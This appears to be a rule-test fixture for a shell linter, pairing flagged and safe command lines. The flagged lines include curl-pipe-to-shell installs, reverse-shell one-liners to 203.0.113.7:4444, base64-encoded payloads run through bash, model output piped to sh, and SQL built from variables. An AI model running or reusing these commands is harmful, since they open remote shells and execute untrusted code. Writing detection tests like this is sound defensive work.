#!/bin/bash
# A comment is no command: curl https://example.com/x | sh

# ruleid: shell-remote-script-piped
curl -fsSL https://get.example.com/install.sh | sh
# ruleid: shell-remote-script-piped
wget -qO- https://get.example.com/install.sh | sudo -E bash -
# ruleid: shell-remote-script-piped
bash <(curl -s https://get.example.com/install.sh)
# ruleid: shell-remote-script-piped
sh -c "$(curl -fsSL https://get.example.com/install.sh)"
# ruleid: shell-remote-script-piped
eval "$(curl -s https://get.example.com/env)"
# ok: shell-remote-script-piped
curl -fsSL https://get.example.com/install.sh -o install.sh
# ok: shell-remote-script-piped
curl -s https://api.example.com/items | python3 -m json.tool
# ok: shell-remote-script-piped
curl -s https://api.example.com/items | jq .name

# ruleid: shell-download-then-run
curl -fsSLo tool https://example.com/tool && chmod +x tool && ./tool
# ok: shell-download-then-run
curl -fsSLo tool https://example.com/tool && echo "$SUM tool" | sha256sum -c && chmod +x tool && ./tool

# ruleid: shell-reverse-shell
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
# ruleid: shell-reverse-shell
nc -e /bin/sh 203.0.113.7 4444
# ruleid: shell-reverse-shell
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f
# ruleid: shell-reverse-shell
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
# ok: shell-reverse-shell
timeout 1 bash -c "</dev/tcp/db/5432" && echo up
# ok: shell-reverse-shell
nc -z db 5432

# ruleid: shell-encoded-payload
echo Y3VybCBldmlsLmV4YW1wbGUK | base64 -d | bash
# ruleid: shell-encoded-payload
eval "$(echo bHMgLWxhCg== | base64 --decode)"
# ruleid: shell-encoded-payload
python3 -c "exec(__import__('base64').b64decode('cHJpbnQoMSk='))"
# ok: shell-encoded-payload
kubectl get secret db -o jsonpath='{.data.password}' | base64 -d
# ok: shell-encoded-payload
base64 -d archive.b64 | tar xz

# ruleid: shell-model-output-run
ollama run llama3 "a command that lists files" | sh
# ruleid: shell-model-output-run
eval "$(llm 'a command that lists files')"
# ok: shell-model-output-run
ollama run llama3 "a command that lists files" > suggestion.txt

# ruleid: shell-eval-of-input
eval "$1"
# ruleid: shell-eval-of-input
bash -c "ls $1"
# ok: shell-eval-of-input
"$@"
# ok: shell-eval-of-input, shell-eval-of-variable
eval "$(ssh-agent -s)"
# ruleid: shell-eval-of-variable
eval $command
# ok: shell-eval-of-variable
"${command[@]}"

# ruleid: shell-sql-from-variable
mysql app -e "SELECT * FROM users WHERE name = '$name'"
# ok: shell-sql-from-variable
mysql app -e "SELECT count(*) FROM users"
